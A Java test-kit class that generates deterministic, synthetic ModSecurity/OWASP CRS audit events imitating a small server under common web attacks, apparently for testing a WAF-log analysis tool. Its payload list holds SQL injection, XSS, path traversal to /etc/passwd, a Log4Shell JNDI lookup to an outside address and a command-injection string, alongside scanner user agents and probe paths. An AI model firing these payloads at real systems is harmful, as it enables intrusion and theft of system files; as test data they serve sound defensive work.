package io.rempart.testkit;

import inet.ipaddr.IPAddress;
import inet.ipaddr.ipv4.IPv4Address;
import inet.ipaddr.ipv6.IPv6Address;
import io.rempart.events.model.Attribution;
import io.rempart.events.model.AuditFormat;
import io.rempart.events.model.ByteText;
import io.rempart.events.model.Classification;
import io.rempart.events.model.Classification.Evidence;
import io.rempart.events.model.Event;
import io.rempart.events.model.Event.Disposition;
import io.rempart.events.model.HeaderField;
import io.rempart.events.model.Hit;
import io.rempart.events.model.Request;
import io.rempart.events.model.Response;
import io.rempart.events.model.Severity;
import io.rempart.events.model.SourceClass;
import io.rempart.events.store.EventEntry;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.jspecify.annotations.Nullable;

/**
 * Events that look like those of a small server under the usual attacks; the same for the same seed. Not thread-safe.
 *
 * <p>About three hits an event, some 200 rules of which few are frequent, sources as skewed as real ones, half a dozen hosts,
 * and a raw record of some four kilobytes.
 */
public final class EventGenerator {
    private static final List<String> HOSTS = List.of(
            "www.example.org",
            "shop.example.org",
            "blog.example.org",
            "api.example.org",
            "203.0.113.10",
            "boutique.exemple.fr");
    private static final List<String> COUNTRIES =
            List.of("FR", "DE", "US", "CN", "RU", "NL", "BR", "IN", "VN", "GB", "SG", "UA", "ID", "PL", "");
    private static final List<String> PATHS = List.of(
            "/",
            "/index.php",
            "/wp-login.php",
            "/xmlrpc.php",
            "/phpmyadmin/index.php",
            "/pma/",
            "/.env",
            "/.git/config",
            "/admin/login",
            "/api/v1/users",
            "/cgi-bin/luci",
            "/recherche",
            "/produits/été",
            "/static/app.js",
            "/boaform/admin/formLogin",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php");
    private static final List<String> AGENTS = List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "curl/7.88.1",
            "python-requests/2.31.0",
            "Mozilla/5.0 (Hydra)",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
            "Go-http-client/1.1",
            "zgrab/0.x",
            "");
    private static final List<String> PAYLOADS = List.of(
            "1' UNION SELECT user,password FROM users-- -",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "${jndi:ldap://198.51.100.7/a}",
            "; cat /etc/passwd",
            "1 OR 1=1",
            "php://filter/convert.base64-encode/resource=index");
    private static final List<String> METHODS = List.of("GET", "GET", "GET", "POST", "POST", "HEAD", "PUT", "PROPFIND");
    private static final int[] STATUSES = {403, 403, 403, 404, 404, 200, 200, 301, 500, 400};
    private static final int RULES = 200;
    private static final String FILLER = filler();

    private final SplittableRandom random;
    private final int sources;
    private final List<RuleTemplate> rules = new ArrayList<>();
    private long time;
    private final long meanStepMicros;
    private long serial;

    private record RuleTemplate(
            String id, ByteText message, @Nullable Severity severity, List<String> tags, String file) {}

    /**
     * @param meanStepMicros average time between two events
     * @param sources how many addresses there are
     */
    public EventGenerator(long seed, Instant start, long meanStepMicros, int sources) {
        this.random = new SplittableRandom(seed);
        this.time = start.getEpochSecond() * 1_000_000 + start.getNano() / 1_000;
        this.meanStepMicros = meanStepMicros;
        this.sources = sources;
        SplittableRandom fixed = new SplittableRandom(42);
        String[] families = {"protocol", "sqli", "xss", "lfi", "rce", "php", "reputation-scanner", "fixation"};
        int[] bases = {920000, 942000, 941000, 930000, 932000, 933000, 913000, 943000};
        for (int i = 0; i < RULES; i++) {
            int family = i % families.length;
            rules.add(new RuleTemplate(
                    String.valueOf(bases[family] + 100 + i / families.length * 10),
                    ByteText.of("Attack of kind " + families[family] + " number " + i),
                    i % 11 == 0 ? null : Severity.values()[2 + fixed.nextInt(4)],
                    List.of(
                            "application-multi",
                            "attack-" + families[family],
                            "paranoia-level/" + (1 + i % 4),
                            "OWASP_CRS"),
                    "REQUEST-" + bases[family] / 1000 + ".conf"));
        }
    }

    /** The next events; times never go back. */
    public List<EventEntry> next(int count) {
        List<EventEntry> entries = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            entries.add(next());
        }
        return entries;
    }

    /** The next event. */
    public EventEntry next() {
        serial++;
        time += random.nextLong(meanStepMicros * 2 + 1);
        int source = skewed(sources);
        IPAddress client = address(source);
        boolean proxied = source % 10 == 3;
        String path = PATHS.get(skewed(PATHS.size()));
        String payload = PAYLOADS.get(skewed(PAYLOADS.size()));
        boolean attack = random.nextInt(4) > 0;
        String uri = attack ? path + "?id=" + encoded(payload) + "&n=" + serial : path + "?page=" + random.nextInt(50);
        String agent = AGENTS.get(source % AGENTS.size());
        String host = HOSTS.get(skewed(HOSTS.size()));
        String method = METHODS.get(random.nextInt(METHODS.size()));
        int status = STATUSES[random.nextInt(STATUSES.length)];
        List<Hit> hits = hits(attack, payload);
        Request request = new Request(
                ByteText.of(method + " " + uri + " HTTP/1.1"),
                ByteText.of(method),
                ByteText.of(uri),
                ByteText.of("HTTP/1.1"),
                List.of(header("Host", host), header("User-Agent", agent), header("Accept", "*/*")),
                ByteText.EMPTY);
        Event event = new Event(
                AuditFormat.MODSECURITY2_JSON,
                "tx" + Long.toString(serial, 36) + "AAAAEA",
                Instant.ofEpochSecond(time / 1_000_000, time % 1_000_000 * 1_000),
                "as written",
                proxied ? new IPv4Address(0x0A000001) : client,
                40_000 + random.nextInt(20_000),
                host,
                "192.0.2.1",
                random.nextInt(3) == 0 ? 80 : 443,
                random.nextInt(20) == 0 ? null : Boolean.valueOf(random.nextInt(3) > 0),
                request,
                new Response(status, ByteText.of("HTTP/1.1"), List.of(), ByteText.EMPTY),
                hits,
                hits.isEmpty() ? Disposition.LOGGED : status == 403 ? Disposition.BLOCKED : Disposition.DETECTED,
                "ENABLED",
                hits.isEmpty() ? -1 : 5 * hits.size(),
                -1,
                "generated",
                List.of());
        Attribution attribution = new Attribution(
                client,
                proxied,
                COUNTRIES.get(source % COUNTRIES.size()),
                64_496 + source % 300,
                "Network " + source % 300);
        byte[] record = record(event, uri, agent, host, hits);
        return new EventEntry(
                event, attribution, classification(source, path, agent, hits), record, random.nextLong(), false);
    }

    private List<Hit> hits(boolean attack, String payload) {
        int count = attack ? 2 + random.nextInt(3) : random.nextInt(2);
        List<Hit> hits = new ArrayList<>(count + 1);
        for (int i = 0; i < count; i++) {
            RuleTemplate rule = rules.get(skewed(RULES));
            hits.add(new Hit(
                    rule.id(),
                    2,
                    rule.message(),
                    ByteText.of("Pattern match at ARGS:id"),
                    "ARGS:id",
                    ByteText.of("Matched Data: " + payload + " found within ARGS:id: " + payload),
                    rule.severity(),
                    rule.tags(),
                    "OWASP_CRS/4.25.1",
                    "",
                    rule.file(),
                    100,
                    true,
                    false));
        }
        if (attack) {
            hits.add(new Hit(
                    "949110",
                    2,
                    ByteText.of("Inbound Anomaly Score Exceeded (Total Score: " + 5 * count + ")"),
                    ByteText.of("Operator GE matched 5 at TX:blocking_inbound_anomaly_score."),
                    "TX:blocking_inbound_anomaly_score",
                    ByteText.EMPTY,
                    Severity.CRITICAL,
                    List.of("anomaly-evaluation", "OWASP_CRS"),
                    "OWASP_CRS/4.25.1",
                    "",
                    "REQUEST-949-BLOCKING-EVALUATION.conf",
                    233,
                    true,
                    false));
        }
        return hits;
    }

    private Classification classification(int source, String path, String agent, List<Hit> hits) {
        if (hits.isEmpty()) {
            return Classification.NONE;
        }
        SourceClass sourceClass = agent.contains("sqlmap") || agent.contains("Nikto")
                ? SourceClass.SCANNER
                : path.contains("login")
                        ? SourceClass.BRUTE_FORCE
                        : source % 7 == 0 ? SourceClass.BAD_BOT : SourceClass.ATTACK;
        return new Classification(
                sourceClass,
                60 + source % 40,
                "rules/1",
                List.of(new Evidence("path-" + Math.floorMod(path.hashCode(), 20), sourceClass, 40, "path " + path)));
    }

    /** Small numbers often, great ones seldom. */
    private int skewed(int bound) {
        double u = random.nextDouble();
        return (int) (u * u * u * bound);
    }

    private static IPAddress address(int source) {
        if (source % 9 == 8) {
            return new IPv6Address(new byte[] {
                0x20,
                0x01,
                0x0d,
                (byte) 0xb8,
                (byte) (source >> 16),
                (byte) (source >> 8),
                (byte) source,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                1
            });
        }
        int mixed = source * 0x9E3779B1;
        return new IPv4Address(new byte[] {
            (byte) (1 + Math.floorMod(mixed >>> 24, 220)), (byte) (mixed >>> 16), (byte) (mixed >>> 8), (byte) source
        });
    }

    private static HeaderField header(String name, String value) {
        return new HeaderField(ByteText.of(name), ByteText.of(value));
    }

    private static String encoded(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static byte[] record(Event event, String uri, String agent, String host, List<Hit> hits) {
        StringBuilder json = new StringBuilder(4_500);
        json.append("{\"transaction\":{\"time\":\"")
                .append(event.time())
                .append("\",\"transaction_id\":\"")
                .append(event.transactionId())
                .append("\",\"remote_address\":\"")
                .append(event.peer())
                .append("\"},\"request\":{\"request_line\":\"")
                .append(uri)
                .append("\",\"headers\":{\"Host\":\"")
                .append(host)
                .append("\",\"User-Agent\":\"")
                .append(agent)
                .append("\"}},\"audit_data\":{\"messages\":[");
        for (Hit hit : hits) {
            json.append("\"[id \\\"")
                    .append(hit.ruleId())
                    .append("\\\"] [msg \\\"")
                    .append(hit.message())
                    .append("\\\"] [data \\\"")
                    .append(hit.data())
                    .append("\\\"] ")
                    .append(hit.tags())
                    .append("\",");
        }
        json.append(FILLER, 0, 1_500 + 500 * hits.size()).append("]}}");
        return json.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String filler() {
        SplittableRandom random = new SplittableRandom(7);
        StringBuilder filler = new StringBuilder();
        while (filler.length() < 8_000) {
            filler.append("[file \\\"/usr/share/modsecurity-crs/rules/REQUEST-")
                    .append(random.nextInt(900, 999))
                    .append(".conf\\\"] [line \\\"")
                    .append(random.nextInt(2_000))
                    .append("\\\"] [ver \\\"OWASP_CRS/4.25.1\\\"] [unique_id \\\"")
                    .append(Long.toString(random.nextLong() >>> 1, 36))
                    .append("\\\"] ");
        }
        return filler.toString();
    }
}
